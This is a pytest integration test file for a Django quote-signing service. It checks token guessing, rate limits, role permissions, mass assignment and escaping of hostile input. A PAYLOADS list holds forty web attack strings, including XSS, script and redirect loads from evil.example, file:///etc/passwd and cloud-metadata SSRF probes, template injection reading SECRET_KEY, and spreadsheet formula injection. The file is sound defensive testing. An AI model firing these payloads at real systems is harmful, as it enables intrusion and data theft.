"""Signing under attack: guessed, replayed and prefetched addresses, wrong roles, hostile words."""

import base64
import hashlib
import io
import secrets
from collections.abc import Callable
from typing import Any

import pypdf
import pytest
import time_machine
from django.db import connection
from django.test import Client
from django.utils import timezone

from monetization.customers.models import Customer
from monetization.documents.models import Document
from monetization.mail.models import OutgoingMail
from monetization.tenancy.models import Tenant
from quotes import services
from quotes.models import OrderForm, Quote, QuoteVersion, SigningLink
from quotes.services.verifying import verify_signatures
from tests.integration.quotes.conftest import browser, make_quote
from tests.integration.quotes.test_web_quotes import priced
from tests.integration.quotes.test_web_signing import GOOD, path

__all__ = ["path"]

Inside = Callable[[], Any]
ACTIONS = ("", "/choose", "/decline", "/ask", "/reassign", "/code", "/document.pdf")


def everything(inside: Inside) -> str:
    """A fingerprint of all rows of the company that signing could change."""
    digest = hashlib.sha256()
    tables = ("quote", "quoteversion", "signer", "signinglink", "orderform", "signatureevidence")
    with inside(), connection.cursor() as cursor:
        for table in tables:
            cursor.execute(f"SELECT row_to_json(t)::text FROM quotes_{table} t ORDER BY id")  # noqa: S608
            digest.update(repr(cursor.fetchall()).encode())
        digest.update(str(OutgoingMail.objects.count()).encode())
    return digest.hexdigest()


class TestAddresses:
    def test_a_secret_has_256_bits_that_nobody_keeps(self, path: str, inside: Inside) -> None:
        token = path.removeprefix("/sign/")
        raw = base64.urlsafe_b64decode(token)
        with inside():
            [link] = SigningLink.objects.all()
            made = {services.make_token() for _ in range(100)}

        assert len(raw) == 16 + 32
        assert link.token_sha256 == hashlib.sha256(token.encode()).hexdigest()
        assert len({one[22:] for one in made}) == 100
        assert token not in str(vars(link))

    def test_thousands_of_guesses_open_nothing_and_are_answered_alike(
        self, path: str, inside: Inside
    ) -> None:
        token = path.removeprefix("/sign/")
        raw = base64.urlsafe_b64decode(token)
        near = [
            raw[:16] + (int.from_bytes(raw[16:], "big") ^ (1 << bit)).to_bytes(32, "big")
            for bit in range(0, 256, 4)
        ]
        following = [
            raw[:16] + ((int.from_bytes(raw[16:], "big") + step) % 2**256).to_bytes(32, "big")
            for step in range(1, 65)
        ]
        random = [raw[:16] + secrets.token_bytes(32) for _ in range(1000)]
        guesses = [base64.urlsafe_b64encode(one).decode() for one in near + following + random]
        before = everything(inside)

        answers = set()
        for number, guess in enumerate(guesses):  # each from another address, past the limit
            client = Client(REMOTE_ADDR=f"198.51.{number // 250}.{number % 250 + 1}")
            answer = client.get(f"/sign/{guess}")
            answers.add((answer.status_code, answer.content))
            assert answer["Referrer-Policy"] == "no-referrer"

        assert len(answers) == 1
        assert answers.pop()[0] == 404
        assert everything(inside) == before

    def test_one_address_is_slowed_down_long_before(self, path: str) -> None:
        client = Client(REMOTE_ADDR="203.0.113.77")
        with time_machine.travel(timezone.now(), tick=False):  # the limit is per minute of a clock
            statuses = [client.get(f"/sign/{'A' * 64}").status_code for _ in range(125)]
            forwarded = client.get(path, headers={"X-Forwarded-For": "198.51.100.9"})

        assert statuses[:120] == [404] * 120
        assert set(statuses[120:]) == {429}
        assert forwarded.status_code == 429

    @pytest.mark.parametrize("method", ["head", "options", "get"])
    def test_what_mail_scanners_do_signs_declines_and_hands_over_nothing(
        self, path: str, inside: Inside, method: str
    ) -> None:
        scanner = Client(headers={"User-Agent": "MailScanner", "Purpose": "prefetch"})
        scanner.get(path)  # reading is noted once
        before = everything(inside)

        for action in ACTIONS:
            answer = getattr(scanner, method)(f"{path}{action}", GOOD)
            assert answer.status_code < 500
        assert everything(inside) == before
        with inside():
            assert not OrderForm.objects.exists()

    @pytest.mark.parametrize("how", ["sent again", "withdrawn", "expired", "declined"])
    def test_an_address_that_is_over_does_nothing_any_more(
        self, path: str, inside: Inside, quote: Quote, how: str
    ) -> None:
        with inside():
            version = quote.versions.get()
            if how == "sent again":
                services.renew_link(version_id=version.id, now=timezone.now())
            elif how == "withdrawn":
                services.revise_quote(quote_id=quote.id, now=timezone.now())
            elif how == "expired":
                QuoteVersion.objects.update(expires_on="2020-01-01")
                services.expire_versions(today=timezone.localdate(), now=timezone.now())
            else:
                token = path.removeprefix("/sign/")
                services.decline_version(token=token, reason="No", now=timezone.now())
        before = everything(inside)

        for action in ACTIONS:
            answer = Client().post(f"{path}{action}", {**GOOD, "reason": "x", "text": "x"})
            assert answer.status_code in (404, 405), action
        assert Client().get(path).status_code == 404
        assert everything(inside) == before


class TestRoles:
    @pytest.mark.parametrize("role", ["viewer", "auditor", "engineer", "finance"])
    def test_who_may_not_write_quotes_changes_none(
        self, company: Any, inside: Inside, quote: Quote, role: str
    ) -> None:
        with inside():
            priced(quote)
        client = browser(company, role)
        before = everything(inside)

        for action in ("edit", "copy", "send", "revise", "new-link", "template", "comment"):
            answer = client.post(f"/quotes/{quote.id}/{action}/", {"text": "x", "name": "x"})
            assert answer.status_code == 403, action
        assert client.post("/quotes/new/", {}).status_code == 403
        assert everything(inside) == before

    def test_nothing_is_promoted_by_a_field_that_is_not_there(
        self, company: Any, inside: Inside, quote: Quote
    ) -> None:
        from tests.integration.api.conftest import Api, fields_of

        api = Api(company)
        other = Tenant.objects.exclude(id=company.id).first()
        hostile = {
            "status": "accepted",
            "number": "Q-1",
            "tenant_id": str(other.id if other else company.id),
            "total_contract_value": "1",
            "terms": {},
            "document_sha256": "0" * 64,
            "sent_at": "2020-01-01T00:00:00Z",
            "created_at": "2020-01-01T00:00:00Z",
            "is_staff": True,
        }
        before = everything(inside)

        for name, value in hostile.items():
            answer = api.call("put", f"quotes/{quote.id}/draft", {name: value})
            assert fields_of(answer) == {name}
        assert everything(inside) == before


# What breaks out of text, attributes, scripts, styles, comments, addresses, templates and cells.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<link rel=attachment href="file:///etc/passwd">',
    '<img src="file:///etc/passwd">',
    '<img src="http://169.254.169.254/latest/meta-data/">',
    '<object data="file:///etc/passwd"></object>',
    "<style>@import 'http://169.254.169.254/x';</style>",
    '"; } @page { background: url(file:///etc/passwd) } ',
    "<svg><image href=file:///etc/passwd /></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "{{7*7}}",
    "{% load static %}{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "=HYPERLINK(\"http://evil.example\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202e<b>txet</b>\u2066",
)  # fmt: skip


class TestWords:
    @pytest.fixture
    def hostile(self, inside: Inside) -> Quote:
        """Every text of a quote, its customer and its signer holds all of the payloads it can."""
        long, short = "\n".join(PAYLOADS), "".join(PAYLOADS[:4])[:110]
        with inside():
            quote = make_quote(PAYLOADS[5])
            Customer.objects.update(name=PAYLOADS[6], legal_name=short, address=long[:1900])
            priced(quote)
            payload = {
                "introduction": long,
                "special_terms": long,
                "signer_name": PAYLOADS[0],
                "purchase_order": PAYLOADS[2],
            }
            version = services.save_draft(version_id=quote.versions.get().id, payload=payload)
            version.phases.update(name=PAYLOADS[1])
            for phase in version.phases.all():
                phase.lines.update(description=short)
        return quote

    def test_there_are_forty_of_them(self) -> None:
        assert len(set(PAYLOADS)) == 40

    @pytest.mark.pdf
    def test_are_text_on_every_page_in_the_pdf_and_in_the_export(
        self, hostile: Quote, company: Any, inside: Inside
    ) -> None:
        with inside():
            version_id = hostile.versions.get().id
            address = services.send_version(version_id=version_id, now=timezone.now())
        token = address.rpartition("/")[2]
        signer, revops = Client(), browser(company)
        signer.post(f"/sign/{token}/ask", {"text": PAYLOADS[0]})

        pages = [
            signer.get(f"/sign/{token}"),
            signer.post(f"/sign/{token}", {"name": PAYLOADS[0], "email": PAYLOADS[7]}),
            revops.get(f"/quotes/{hostile.id}/"),
            revops.get("/quotes/"),
            revops.get(f"/quotes/{hostile.id}/?from=1&to={PAYLOADS[0]}"),
        ]
        signed = signer.post(f"/sign/{token}", {**GOOD, "name": PAYLOADS[0], "title": PAYLOADS[1]})
        pages.append(signer.get(signed.headers["Location"]))

        for page in pages:
            body = page.content.decode()
            for payload in PAYLOADS:
                if "<" in payload or '"' in payload:
                    assert payload not in body, (page.request["PATH_INFO"], payload)
            assert "49" not in [cell.strip() for cell in body.split("<")]
            policy = page["Content-Security-Policy"]
            assert "'unsafe-inline'" not in policy.partition("script-src")[2].partition(";")[0]
        rows = revops.get("/quotes/export.csv").content.decode()
        assert not [cell for cell in rows.split(",") if cell.lstrip('"')[:1] in "=+@" and cell]
        with inside():
            assert verify_signatures()[1] == []
            stored = [bytes(one.content) for one in Document.objects.all()]
        assert len(stored) == 2
        for pdf in stored:
            reader = pypdf.PdfReader(io.BytesIO(pdf))
            text = "\n".join(one.extract_text() for one in reader.pages)
            assert "{{7*7}}" in text
            assert "root:" not in text
            assert reader.attachments == {}
            assert b"/JavaScript" not in pdf
            assert b"/Launch" not in pdf
